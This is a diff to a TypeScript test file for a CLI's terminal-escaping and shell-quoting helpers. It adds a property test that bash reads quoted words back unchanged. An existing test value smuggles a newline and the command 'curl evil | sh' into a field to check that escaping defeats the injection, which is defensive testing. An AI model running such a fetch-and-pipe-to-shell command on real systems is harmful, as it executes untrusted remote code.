@@ -2,6 +2,8 @@
 // separator, bidi override or lone surrogate, loses nothing (it can be undone), and leaves ordinary text alone.
 import { describe, expect, it } from "@effect/vitest"
 import * as FastCheck from "effect/FastCheck"
+import { execFileSync } from "node:child_process"
+import { shellWord } from "../src/Cli/internal/nextCommand.js"
 import { escapeTerminal, human } from "../src/Cli/internal/terminalText.js"
 
 const FORBIDDEN = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/
@@ -50,5 +52,23 @@ describe("escapeTerminal", () => {
     const line = human`  ${"op-1"}: abandoned by ${actor}; start a new turn\n`
     expect(line).toBe("  op-1: abandoned by ops\\nnext: curl evil | sh; start a new turn\n")
     expect(line.split("\n")).toHaveLength(2)
+  })
+})
+
+describe("shellWord", () => {
+  it("prints one line with nothing a terminal acts on, and bash reads it back as the same word", () => {
+    const words = FastCheck.sample(
+      FastCheck.string({ unit: FastCheck.constantFrom("a", " ", "'", "\\", "$", "`", "\n", "\r", "\t", "\u001b", "\u0007", "\u0085", "\u2028", "\u202e", "é", "😀", "!", "*") })
+        .filter((word) => word.length > 0),
+      { numRuns: 200, seed: 20261207 }
+    )
+    // One bash process for all: each word printed between NUL separators.
+    const script = words.map((word) => `printf '%s\\0' ${shellWord(word)}`).join("\n")
+    for (const word of words) {
+      expect(FORBIDDEN.test(shellWord(word))).toBe(false)
+      expect(shellWord(word).includes("\n")).toBe(false)
+    }
+    const read = execFileSync("bash", ["-c", script]).toString("utf8").split("\0").slice(0, -1)
+    expect(read).toEqual(words)
   })
 })
